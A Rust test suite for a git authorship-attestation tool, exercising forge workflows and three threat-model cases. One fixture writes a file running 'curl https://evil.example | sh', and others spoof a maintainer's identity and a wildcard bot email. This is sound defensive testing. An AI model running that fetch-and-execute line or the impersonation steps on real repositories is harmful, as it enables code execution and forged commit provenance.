//! Work that meets what the forge did upstream, in the order people do it
//! (docs/workflows.md): `git pull --rebase` after the forge squash-merged
//! your commits, a stacked branch rebased after the branch below it was
//! squash-merged, a pull request with the forge's "Update branch" merge
//! and a reviewer's suggestion committed in the web UI, a commit from an
//! IDE that has no terminal, a hotfix branch started from a tag made
//! before the project adopted avow, a bot's pull request, and a
//! maintainer's second machine with another email. Real git, real hooks;
//! every printed hint is run as printed.

use std::path::{Path, PathBuf};

use crate::forge::{forge_commit, GITHUB};
use crate::support::*;

/// `sh -c LINE` in `dir`, `git-avow` on PATH, no terminal.
fn sh_in(w: &World, dir: &Path, line: &str) -> Run {
    w.shell(line).current_dir(dir).output().unwrap().into()
}

/// A commit of everything in the work tree with a human statement.
fn commit_line(subject: &str) -> String {
    format!("git add -A && git commit -q -m '{subject}' --trailer 'Authorship: human' --trailer 'Rationale: {subject}, so that the numbers read as words; nothing else changes.'")
}

/// A clone of `origin` where the forge works: no hooks, committer GitHub.
fn forge_clone(w: &World, origin: &Path) -> PathBuf {
    let dir = w.scratch().join("forge");
    w.git(["clone", "-q", "-b", "main", origin.to_str().unwrap(), dir.to_str().unwrap()]);
    dir
}

/// Commits what is staged in `dir` as the forge does, message as is: no
/// hooks, `committer` as committer, `author` (else the test's) as author.
fn forge_commit_in(w: &World, dir: &Path, message: &str, committer: (&str, &str), author: Option<(&str, &str)>) {
    let f = w.scratch().join("forge-msg");
    std::fs::write(&f, message).unwrap();
    let mut c = w.repo.command("git");
    c.args(["-c", "core.hooksPath=/dev/null", "commit", "-q", "--cleanup=verbatim", "-F", f.to_str().unwrap()])
        .current_dir(dir)
        .env("GIT_COMMITTER_NAME", committer.0)
        .env("GIT_COMMITTER_EMAIL", committer.1);
    if let Some((name, email)) = author {
        c.env("GIT_AUTHOR_NAME", name).env("GIT_AUTHOR_EMAIL", email);
    }
    Run::from(c.output().unwrap()).expect(0);
}

/// Alice's two commits went to the forge as a pull request, which was
/// squash-merged; she has one more commit on her local `main` and runs
/// `git pull --rebase`. git drops her two commits ("patch contents
/// already upstream") and lists each as rewritten into the commit it was
/// on — the forge's squash. avow took that for a rewrite of hers that no
/// longer verified, and told her to give the forge's commit on `main` a
/// statement of her own (`git rebase -i SQUASH~1`, then an amend). The
/// rebase made nothing of the kind: nothing is said, and her branch
/// verifies.
#[test]
fn pull_rebase_after_the_forge_squash_merged_your_commits_says_nothing() {
    let w = World::adopted("disclose");
    let origin = w.remote("origin");
    w.change("f.txt", "1\n2\n3\n", "Add f");
    w.change("g.txt", "g\n", "Add g");
    w.git(["push", "-q", "--no-verify", "origin", "main:topic"]);
    let forge = forge_clone(&w, &origin);
    w.git(["-C", forge.to_str().unwrap(), "merge", "-q", "--squash", "origin/topic"]);
    forge_commit_in(&w, &forge, "Add f and g (#1)\n", GITHUB, None);
    w.git(["-C", forge.to_str().unwrap(), "push", "-q", "origin", "main"]);
    w.write("h.txt", "h\n");
    sh_in(&w, &w.path(), &commit_line("Add h")).expect(0);

    let r = sh_in(&w, &w.path(), "git pull -q --rebase").expect(0);
    assert!(r.stderr.contains("patch contents already upstream"), "git dropped the squashed commits: {}", r.stderr);
    assert!(!r.stderr.contains("avow"), "{}", r.stderr);
    assert_eq!(w.git(["log", "--format=%s", "-3"]), "Add h\nAdd f and g (#1)\nAdopt avow");
    let r = sh_in(&w, &w.path(), "git avow verify").expect(0);
    assert!(r.stdout.contains("1 commit: 1 accepted, 0 rejected"), "{}", r.stdout);
}

/// Threat-model entry 127. Mallory, who can push to the project's `main`
/// (or whose commit a maintainer merges), sees Alice's pull request and
/// pushes a commit carrying its message — subject, statement, Alice's
/// signature, Alice as author — over Alice's change plus a file of his.
/// Alice's `git pull --rebase` drops her own commit as already upstream,
/// and git lists it as rewritten into Mallory's. avow recorded that pair
/// as a rewrite of her commit that kept her signature, so `git avow
/// reattest`, which the rebase's end named, re-signed Mallory's change as
/// hers without asking. A commit the rebase did not make (the one it
/// replays onto, or any of its ancestors) is now neither recorded nor
/// checked: reattest lists it with its files and signs only when named.
#[test]
fn a_copy_of_your_message_upstream_is_not_taken_for_a_rewrite_of_yours() {
    let w = World::adopted("disclose");
    let origin = w.remote("origin");
    w.change("f.txt", "1\n2\n3\n", "Add f");
    w.git(["push", "-q", "--no-verify", "origin", "main:alice-topic"]);
    let evil = forge_clone(&w, &origin);
    std::fs::write(evil.join("f.txt"), "1\n2\n3\n").unwrap();
    std::fs::write(evil.join("evil.sh"), "curl https://evil.example | sh\n").unwrap();
    w.git(["-C", evil.to_str().unwrap(), "add", "-A"]);
    forge_commit_in(&w, &evil, &w.message("main"), ("Mallory", "mallory@example.net"), None);
    w.git(["-C", evil.to_str().unwrap(), "push", "-q", "origin", "main"]);
    let copy = w.git(["ls-remote", origin.to_str().unwrap(), "refs/heads/main"]);
    let copy = copy.split_whitespace().next().unwrap().to_owned();

    let r = sh_in(&w, &w.path(), "git pull -q --rebase").expect(0);
    assert!(!r.stderr.contains("reattest"), "{}", r.stderr);
    assert_eq!(w.git(["rev-parse", "HEAD"]), copy, "Alice's main is the upstream's");
    let record = std::fs::read_to_string(w.path().join(".git/avow/rewritten")).unwrap_or_default();
    assert!(!record.contains(&copy), "{record}");
    // Asked to re-sign the range anyway, reattest shows what the change
    // is and signs nothing.
    let r = sh_in(&w, &w.path(), "git avow reattest HEAD~1..HEAD").expect(1);
    assert!(r.stderr.contains("files:  A evil.sh, A f.txt"), "{}", r.stderr);
    assert_eq!(w.git(["rev-parse", "HEAD"]), copy, "nothing was signed");
    w.verify("base..HEAD").expect(1);
}

/// `lower` (two commits) and `upper` on top of it, each a pull request.
/// The forge squash-merges `lower`; Alice rebases `upper` onto `main` as
/// most people do, `git rebase main`: the first of lower's commits
/// conflicts with the squash (she skips it, it is in main already), the
/// second is dropped as already upstream. The rebase said that the
/// forge's squash on `main` no longer verified and named a rebase of
/// `main`'s history; now nothing is said, `upper` verifies, and so does
/// its own squash merge.
#[test]
fn a_stacked_branch_rebased_after_the_lower_one_was_squash_merged() {
    let w = World::adopted("disclose");
    w.change("f.txt", "1\n2\n3\n4\n5\n6\n", "Add f");
    w.git(["switch", "-q", "-c", "lower"]);
    w.change("f.txt", "1\ntwo\n3\n4\n5\n6\n", "Spell two");
    w.change("f.txt", "1\ntwo\nthree\n4\n5\n6\n", "Spell three");
    w.git(["switch", "-q", "-c", "upper"]);
    w.change("f.txt", "1\ntwo\nTHREE\n4\n5\n6\n", "Shout three");
    w.change("u.txt", "u\n", "Add u");
    w.git(["update-ref", "refs/pull/1/head", "lower"]);
    w.git(["switch", "-q", "main"]);
    w.git(["tag", "before-1"]);
    w.git(["merge", "-q", "--squash", "lower"]);
    forge_commit(&w, "Spell two and three (#1)\n", GITHUB);
    w.verify("before-1..main").expect(0);

    w.git(["switch", "-q", "upper"]);
    let r = sh_in(&w, &w.path(), "git rebase main");
    assert_ne!(r.code, 0, "Spell two conflicts with the squash: {}", r.stderr);
    let r = sh_in(&w, &w.path(), "git rebase --skip").expect(0);
    assert!(r.stderr.contains("patch contents already upstream"), "{}", r.stderr);
    assert!(!r.stderr.contains("avow"), "{}", r.stderr);
    assert_eq!(w.git(["log", "--format=%s", "main..upper"]), "Add u\nShout three");
    w.verify("main..upper").expect(0);

    w.git(["update-ref", "refs/pull/2/head", "upper"]);
    w.git(["switch", "-q", "main"]);
    w.git(["tag", "before-2"]);
    w.git(["merge", "-q", "--squash", "upper"]);
    forge_commit(&w, "Shout three, add u (#2)\n", GITHUB);
    let r = w.verify("before-2..main").expect(0);
    assert!(r.stdout.contains("squash of refs/pull/2/head"), "{}", r.stdout);
}

/// A pull request as it lives on a forge: Alice's commit, a reviewer's
/// suggestion that she committed with the web UI's "Commit suggestion"
/// (no hook ran: no statement, Bob as co-author, GitHub as committer),
/// the "Update branch" button's merge of `main`, and her next commit.
/// verify refuses the suggestion; reattest names the interactive rebase
/// that gives it a statement. That rebase was `git rebase -i C~1`, which
/// flattens the forge's merge and copies `main`'s commit into the pull
/// request; it now keeps the merges (`--rebase-merges`), and followed as
/// printed, `main`'s commit stays `main`'s and the branch verifies.
#[test]
fn a_web_suggestion_before_the_forges_update_branch_merge_is_attested_as_printed() {
    let w = World::adopted("disclose");
    w.change("f.txt", "1\n2\n3\n4\n5\n6\n7\n8\n9\n", "Add f");
    w.git(["switch", "-q", "-c", "feature"]);
    w.change("f.txt", "1\ntwo\n3\n4\n5\n6\n7\n8\n9\n", "Spell two");
    w.write("f.txt", "1\ntwo\nthree\n4\n5\n6\n7\n8\n9\n");
    w.git(["add", "f.txt"]);
    forge_commit(&w, "Apply suggestions from code review\n\nCo-authored-by: Bob Example <bob@example.org>\n", GITHUB);
    let suggestion = w.git(["rev-parse", "HEAD"]);
    w.git(["switch", "-q", "main"]);
    let on_main = w.change("m.txt", "m\n", "Add m");
    w.git(["switch", "-q", "feature"]);
    let mut c = w.repo.command("git");
    c.args([
        "-c",
        "core.hooksPath=/dev/null",
        "merge",
        "-q",
        "--no-ff",
        "-m",
        "Merge branch 'main' into feature",
        "main",
    ])
    .env("GIT_COMMITTER_NAME", GITHUB.0)
    .env("GIT_COMMITTER_EMAIL", GITHUB.1);
    Run::from(c.output().unwrap()).expect(0);
    w.change("f.txt", "1\ntwo\nthree\n4\n5\n6\n7\n8\nnine\n", "Spell nine");
    let r = w.verify("main..feature").expect(1);
    assert!(r.stdout.contains("[attestation.missing]"), "{}", r.stdout);

    let r = sh_in(&w, &w.path(), "git avow reattest main..feature").expect(1);
    let short = w.git(["rev-parse", "--short", &suggestion]);
    let printed = quoted_commands(&r.stderr);
    assert_eq!(printed[0], format!("git rebase -i --rebase-merges {short}~1"), "{}", r.stderr);
    w.mark_edit_in_rebase(&suggestion);
    for command in &printed {
        let command = command.replace(
            "<why the change is needed and how it works>",
            "Bob's suggestion spells three out, as the other numbers are; I checked it.",
        );
        sh_in(&w, &w.path(), &command).expect(0);
    }
    assert_eq!(w.git(["rev-list", "--count", "--merges", "main..feature"]), "1", "the merge is kept");
    assert_eq!(w.git(["log", "--format=%s", "--grep=^Add m$", "main..feature"]), "", "no copy of main's commit");
    w.git(["merge-base", "--is-ancestor", &on_main, "feature"]);
    let r = w.verify("main..feature").expect(0);
    assert!(r.stdout.contains("3 accepted, 0 rejected, 1 skipped"), "{}", r.stdout);
    assert!(w.message("feature~1^1").contains("Co-authored-by: Bob Example <bob@example.org>"));
}

/// An IDE commits with `git commit --file -` (the message on standard
/// input: VS Code) and no terminal, and shows the hook's text in a
/// dialog: `--trailer` is nothing its user can add. The refusal now says
/// how to give the statement in the commit box; followed as printed
/// (the lines it shows, after a blank line), the commit is signed.
#[test]
fn an_ide_commit_without_a_terminal_gives_the_statement_in_the_message() {
    let w = World::adopted("disclose");
    w.write("a.txt", "a\n");
    w.git(["add", "a.txt"]);
    let box_text = w.scratch().join("commit-box");
    std::fs::write(&box_text, "Add a\n").unwrap();
    let ide = format!("git commit --quiet --allow-empty-message --file - < '{}'", box_text.display());
    let r = sh_in(&w, &w.path(), &ide).expect(1);
    let (_, after) = r
        .stderr
        .split_once("In an IDE or other GUI (no terminal), end the commit message itself with the statement, a blank line before it:\n\n")
        .unwrap_or_else(|| panic!("{}", r.stderr));
    let lines: Vec<&str> = after.lines().take_while(|l| l.starts_with("  ")).map(str::trim).collect();
    assert_eq!(lines, ["Authorship: human", "Rationale: <why the change is needed and how it works>"]);
    let statement = lines.join("\n").replace(
        "<why the change is needed and how it works>",
        "The project needs the file a; the IDE user typed this in the commit box.",
    );
    std::fs::write(&box_text, format!("Add a\n\n{statement}\n")).unwrap();
    sh_in(&w, &w.path(), &ide).expect(0);
    w.verify("base..HEAD").expect(0);
}

/// The project adopted avow after release 1.0; a hotfix for 1.0 starts at
/// its tag (`git switch -c hotfix v1.0`), where there is no `.avow/`. The
/// hook signed nothing and said nothing, and the fix's pull request into
/// `main` failed verification. It now says so and names the note that
/// attests the commit; followed as printed, the range it names verifies.
#[test]
fn a_hotfix_branch_from_a_tag_before_adoption_names_how_to_attest() {
    let repo = TestRepo::new();
    repo.write("f.txt", "1.0\n");
    repo.commit_all("Release 1.0");
    repo.git(["tag", "v1.0"]);
    repo.write("f.txt", "1.1-dev\n");
    repo.commit_all("Start 1.1");
    let w = World::adopted_in(repo, "disclose");
    w.git(["switch", "-q", "-c", "hotfix", "v1.0"]);
    assert!(!w.path().join(".avow").exists());
    w.write("f.txt", "1.0.1\n");
    let r = sh_in(&w, &w.path(), "git commit -q -am 'Fix the release'").expect(0);
    let printed = quoted_commands(&r.stderr);
    assert_eq!(
        printed,
        [
            "git avow verify main..HEAD",
            "git avow attest HEAD --authorship human --rationale \"<why the change is needed and how it works>\""
        ],
        "{}",
        r.stderr
    );
    sh_in(&w, &w.path(), &printed[0]).expect(1);
    let attest = printed[1].replace(
        "<why the change is needed and how it works>",
        "Release 1.0 printed the wrong version; 1.0.1 says what it is.",
    );
    sh_in(&w, &w.path(), &attest).expect(0);
    let r = sh_in(&w, &w.path(), &printed[0]).expect(0);
    assert!(r.stdout.contains("(attested by a note in refs/notes/avow)"), "{}", r.stdout);
}

/// Every text between backticks in `text`.
fn backticked(text: &str) -> Vec<String> {
    text.split('`').skip(1).step_by(2).map(str::to_owned).collect()
}

/// Dependabot opens a pull request: one commit by `dependabot[bot]`,
/// made by the forge, no hook. verify told the maintainer to install the
/// hook and re-commit, which nobody can do for a bot. It now says it is a
/// bot's and names the two ways: a maintainer's own re-commit, or the
/// bot's exact email in the policy's exempt list; the second, done as
/// printed on main, makes the pull request verify.
#[test]
fn a_dependabot_pull_request_names_the_exemption_that_verifies_it() {
    let w = World::adopted("disclose");
    w.change("deps.txt", "lodash 4.17.20\n", "Pin lodash");
    let bot = "49699333+dependabot[bot]@users.noreply.github.com";
    w.git(["switch", "-q", "-c", "dependabot/npm_and_yarn/lodash-4.17.21"]);
    w.write("deps.txt", "lodash 4.17.21\n");
    w.git(["add", "deps.txt"]);
    forge_commit_in(&w, &w.path(), "Bump lodash from 4.17.20 to 4.17.21\n", GITHUB, Some(("dependabot[bot]", bot)));
    w.git(["switch", "-q", "main"]);
    let r = w.verify("main..dependabot/npm_and_yarn/lodash-4.17.21").expect(1);
    let finding =
        r.stdout.lines().find(|l| l.contains("[attestation.missing]")).unwrap_or_else(|| panic!("{}", r.stdout));
    assert!(!finding.contains("git avow install"), "{finding}");
    assert!(finding.contains(&format!("its author {bot} is a bot")), "{finding}");
    let entry = backticked(finding).into_iter().find(|t| t.contains(bot)).unwrap();
    assert_eq!(entry, format!("\"{bot}\","));
    // The maintainer adds it to the `emails` list under `[exempt]`, on main.
    let path = w.path().join(".avow/policy.toml");
    let policy = std::fs::read_to_string(&path).unwrap();
    let exempt = policy.find("\n[exempt]\n").expect("an [exempt] table");
    let list = exempt + policy[exempt..].find("\nemails = [\n").expect("an emails list") + "\nemails = [\n".len();
    std::fs::write(&path, format!("{}    {entry}\n{}", &policy[..list], &policy[list..])).unwrap();
    w.git(["add", ".avow"]);
    w.commit(&[
        "-m",
        "Exempt dependabot",
        "--trailer",
        "Authorship: human",
        "--trailer",
        "Rationale: Dependabot's bumps are reviewed in their pull requests; no hook can run for them.",
    ])
    .expect(0);
    let r = w.verify("main..dependabot/npm_and_yarn/lodash-4.17.21").expect(0);
    assert!(r.stdout.contains("is exempt by the policy"), "{}", r.stdout);
}

/// Threat-model entry 128. Anyone can author a commit under any email,
/// and `*` in `exempt.emails` matches any run of characters: a pull
/// request whose commit claims the author `*[bot]@users.noreply.github.com`
/// got advice to exempt that "bot", which would have exempted every
/// GitHub bot, coding agents included. An email that is not one plain
/// address gets the ordinary advice.
#[test]
fn a_bot_email_with_a_wildcard_is_not_offered_for_exemption() {
    let w = World::adopted("disclose");
    w.git(["switch", "-q", "-c", "topic"]);
    for (i, email) in ["*[bot]@users.noreply.github.com", "evil\"[bot]@example.org"].iter().enumerate() {
        w.write(&format!("b{i}.txt"), "b\n");
        w.git(["add", "-A"]);
        forge_commit_in(&w, &w.path(), &format!("Bump b{i}\n"), GITHUB, Some(("helpful[bot]", email)));
    }
    let r = w.verify("main..topic").expect(1);
    let findings: Vec<&str> = r.stdout.lines().filter(|l| l.contains("[attestation.missing]")).collect();
    assert_eq!(findings.len(), 2, "{}", r.stdout);
    for f in findings {
        assert!(!f.contains("exempt") && f.contains("committed it, where no hook runs"), "{f}");
    }
}

/// `line` in the laptop's clone `dir`: the identity is the clone's
/// `user.name`/`user.email`, as on a machine of one's own.
fn on_laptop(w: &World, dir: &Path, line: &str) -> Run {
    let mut c = w.shell(line);
    c.current_dir(dir);
    for var in ["GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL"] {
        c.env_remove(var);
    }
    c.output().unwrap().into()
}

/// Alice, the maintainer, also works on her laptop: a new key, and her
/// home address as `user.email`. The hook's warning named a `keyring add`
/// for `Alice Example <alice@home.example>`, which makes a second person
/// of her — a contributor, a newcomer, whose commits are not the
/// maintainer's. It now also names the other way: commit as the
/// keyring's Alice there too and add the laptop's key to her entry.
/// Followed as printed (the maintainer's part on her desktop, pushed to
/// main), the laptop's commit verifies as hers.
#[test]
fn a_second_machine_with_another_email_joins_the_keyrings_person() {
    let w = World::adopted("disclose");
    let origin = w.remote("origin");
    let laptop = w.scratch().join("laptop");
    w.git(["clone", "-q", "-b", "main", origin.to_str().unwrap(), laptop.to_str().unwrap()]);
    let key = w.keygen("laptop-key");
    for line in [
        format!("git config user.name '{AUTHOR_NAME}'"),
        "git config user.email alice@home.example".to_owned(),
        format!("git config avow.signingKey {}", key.display()),
        "git avow install".to_owned(),
    ] {
        on_laptop(&w, &laptop, &line).expect(0);
    }
    std::fs::write(laptop.join("l.txt"), "from the laptop\n").unwrap();
    let r = on_laptop(&w, &laptop, &commit_line("Add l")).expect(0);
    let note = r
        .stderr
        .lines()
        .find(|l| l.starts_with("avow: note: the keyring has"))
        .unwrap_or_else(|| panic!("{}", r.stderr));
    let printed = quoted_commands(note);
    assert_eq!(printed.len(), 3, "{note}");
    assert_eq!(printed[0], "git config user.email alice@example.org");
    assert!(printed[1].starts_with("git avow keyring add --email alice@example.org --key \"ssh-ed25519 "), "{note}");
    assert_eq!(printed[2], "git -c avow.takeOver=true commit --amend --no-edit --reset-author");

    on_laptop(&w, &laptop, &printed[0]).expect(0);
    // The maintainer's part, on her desktop (her key there signs it): a
    // key of her own, so no warning.
    let r = Run::from(w.shell(&printed[1]).output().unwrap()).expect(0);
    assert!(!r.stderr.contains("is a maintainer"), "{}", r.stderr);
    w.git(["add", ".avow"]);
    w.commit(&[
        "-m",
        "Add Alice's laptop key",
        "--trailer",
        "Authorship: human",
        "--trailer",
        "Rationale: Alice works on her laptop too; its key signs as her.",
    ])
    .expect(0);
    w.git(["push", "-q", "--no-verify", "origin", "main"]);
    on_laptop(&w, &laptop, "git pull -q --rebase").expect(0);
    on_laptop(&w, &laptop, &printed[2]).expect(0);
    let r = on_laptop(&w, &laptop, "git avow verify origin/main..HEAD").expect(0);
    assert!(r.stdout.contains(&format!("[human, {AUTHOR_NAME} <{AUTHOR_EMAIL}>]")), "{}", r.stdout);
    assert_eq!(w.avow(["keyring", "list"]).stdout.matches(AUTHOR_NAME).count(), 1, "one Alice");
}

/// Threat-model entry 129. Mallory gives herself the maintainer's name
/// (`user.name 'Alice Example'`) and her own key and email: the hook's
/// second-machine note tells her to ask a maintainer to add her key to
/// Alice's entry, and hands her the exact command. Bob, another
/// maintainer, runs it: the key would sign as Alice, `.avow/` changes
/// included. `keyring add` of a key to a maintainer other than yourself
/// now warns, naming the fingerprint to compare and the restore; followed,
/// Alice keeps her one key.
#[test]
fn a_namesake_asking_for_a_maintainers_entry_is_flagged_where_the_key_is_added() {
    let w = World::adopted("disclose");
    let bob = w.keygen("bob");
    let bob_pub = format!("{}.pub", bob.display());
    w.avow([
        "keyring",
        "add",
        "--name",
        "Bob Example",
        "--email",
        "bob@example.org",
        "--key",
        &bob_pub,
        "--role",
        "maintainer",
    ])
    .expect(0);
    w.git(["add", ".avow"]);
    w.commit(&[&["-m", "Make Bob a maintainer"][..], &HUMAN].concat()).expect(0);
    let mallory = w.keygen("mallory");
    w.git(["switch", "-q", "-c", "mallory"]);
    w.write("m.txt", "m\n");
    let mut c = w.shell(&commit_line("Add m"));
    c.env("GIT_AUTHOR_EMAIL", "mallory@example.net")
        .env("GIT_COMMITTER_EMAIL", "mallory@example.net")
        .env("GIT_CONFIG_COUNT", "2")
        .env("GIT_CONFIG_KEY_0", "user.email")
        .env("GIT_CONFIG_VALUE_0", "mallory@example.net")
        .env("GIT_CONFIG_KEY_1", "avow.signingKey")
        .env("GIT_CONFIG_VALUE_1", mallory.to_str().unwrap());
    let r = Run::from(c.output().unwrap()).expect(0);
    let note = r
        .stderr
        .lines()
        .find(|l| l.starts_with("avow: note: the keyring has"))
        .unwrap_or_else(|| panic!("{}", r.stderr));
    let add = quoted_commands(note).into_iter().find(|c| c.starts_with("git avow keyring add")).unwrap();
    w.git(["switch", "-q", "main"]);
    let mut c = w.shell(&add);
    c.env("GIT_CONFIG_COUNT", "1").env("GIT_CONFIG_KEY_0", "avow.signingKey").env("GIT_CONFIG_VALUE_0", &bob);
    let r = Run::from(c.output().unwrap()).expect(0);
    let warning = r.stderr.lines().find(|l| l.contains("is a maintainer")).unwrap_or_else(|| panic!("{}", r.stderr));
    assert!(
        warning.starts_with(&format!(
            "avow: warning: {AUTHOR_NAME} <{AUTHOR_EMAIL}> is a maintainer: whoever holds this key signs as them"
        )),
        "{warning}"
    );
    let restore = quoted_commands(warning);
    assert_eq!(restore, ["git restore .avow/keyring.toml"]);
    Run::from(w.shell(&restore[0]).output().unwrap()).expect(0);
    assert_eq!(w.git(["status", "--porcelain"]), "");
}
